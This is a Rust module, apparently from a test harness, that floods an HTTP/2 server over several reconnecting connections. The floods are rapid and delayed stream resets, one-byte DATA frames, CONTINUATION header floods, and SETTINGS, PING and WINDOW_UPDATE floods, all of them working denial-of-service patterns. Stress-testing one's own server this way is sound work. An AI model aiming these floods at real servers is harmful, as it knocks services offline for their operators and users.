//! Floods: several connections that say the same again and again.

use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::task::JoinSet;

use super::{Beginning, Held, PUT, RANGE};
use crate::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, RST_STREAM, SETTINGS,
    WINDOW_UPDATE, call_headers, frame, header, hello,
};
use crate::get_prefix;
use crate::raw::framed;
use crate::server::Target;

/// Connections of an attacker.
const ATTACKERS: usize = 4;
/// Streams that a connection opens in one chunk of a flood.
const STREAMS: u32 = 100;
/// A server that takes nothing for so long is left, and flooded from another
/// connection.
const PATIENCE: Duration = Duration::from_millis(1500);

/// What a connection sends again and again, from the number of its first stream.
pub(super) type Chunk = fn(u32) -> Vec<u8>;

/// Begins to flood, until what is returned is dropped.
pub(super) fn begin(target: Target, chunk: Chunk) -> Beginning {
    Box::pin(async move {
        let mut attackers = JoinSet::new();
        for _ in 0..ATTACKERS {
            attackers.spawn(flood(target.clone(), chunk));
        }
        Ok(Box::new(attackers) as Held)
    })
}

/// Floods one connection after the other.
async fn flood(target: Target, chunk: Chunk) {
    loop {
        let Ok(stream) = target.stream().await else {
            // It does not even let us in for now.
            tokio::task::yield_now().await;
            continue;
        };
        let (mut ear, mut mouth) = tokio::io::split(stream);
        let hearing = async move {
            let mut buffer = vec![0; 64 << 10];
            while ear.read(&mut buffer).await.is_ok_and(|length| length > 0) {}
        };
        let speaking = async move {
            let mut stream = 1;
            let mut open = mouth.write_all(&hello()).await.is_ok();
            while open {
                let said = tokio::time::timeout(PATIENCE, mouth.write_all(&chunk(stream))).await;
                open = matches!(said, Ok(Ok(())));
                stream += 2 * STREAMS;
            }
        };
        tokio::select! {
            () = hearing => {}
            () = speaking => {}
        }
    }
}

fn on_each_stream(first: u32, of: impl Fn(u32) -> Vec<u8>) -> Vec<u8> {
    (0..STREAMS).flat_map(|number| of(first + 2 * number)).collect()
}

fn reset(stream: u32) -> Vec<u8> {
    frame(RST_STREAM, 0, stream, &8u32.to_be_bytes())
}

pub(super) fn resets_of_ranges(first: u32) -> Vec<u8> {
    let (head, body) = (call_headers(RANGE), framed(&get_prefix("v/")));
    on_each_stream(first, |stream| {
        let begun = frame(HEADERS, END_HEADERS, stream, &head);
        [begun, frame(DATA, END_STREAM, stream, &body), reset(stream)].concat()
    })
}

/// Ranges that have time to begin before they are cancelled.
pub(super) fn late_resets_of_ranges(first: u32) -> Vec<u8> {
    let (head, body) = (call_headers(RANGE), framed(&get_prefix("v/")));
    let begun = on_each_stream(first, |stream| {
        let begun = frame(HEADERS, END_HEADERS, stream, &head);
        [begun, frame(DATA, END_STREAM, stream, &body)].concat()
    });
    // 128 KiB that say nothing: two turns of the connection.
    let pause = frame(PING, 0, 0, &[7; 8]).repeat(7_700);
    [begun, pause, on_each_stream(first, reset)].concat()
}

pub(super) fn one_byte_a_frame(first: u32) -> Vec<u8> {
    let begun = frame(HEADERS, END_HEADERS, first, &call_headers(PUT));
    let announced = [&[0][..], &1_500_000_u32.to_be_bytes()].concat();
    let bytes = frame(DATA, 0, first, &[7]).repeat(20_000);
    [begun, frame(DATA, 0, first, &announced), bytes, reset(first)].concat()
}

pub(super) fn long_heads(first: u32) -> Vec<u8> {
    let begun = frame(HEADERS, 0, first, &call_headers(RANGE));
    let more = frame(CONTINUATION, 0, first, &header("x", &[b'y'; 2000])).repeat(60);
    [begun, more, frame(CONTINUATION, END_HEADERS, first, b""), reset(first)].concat()
}

pub(super) fn settings(_: u32) -> Vec<u8> {
    frame(SETTINGS, 0, 0, &[0, 4, 0, 1, 0, 0]).repeat(1000)
}

pub(super) fn pings(_: u32) -> Vec<u8> {
    frame(PING, 0, 0, &[7; 8]).repeat(1000)
}

pub(super) fn windows(_: u32) -> Vec<u8> {
    frame(WINDOW_UPDATE, 0, 0, &1u32.to_be_bytes()).repeat(1000)
}
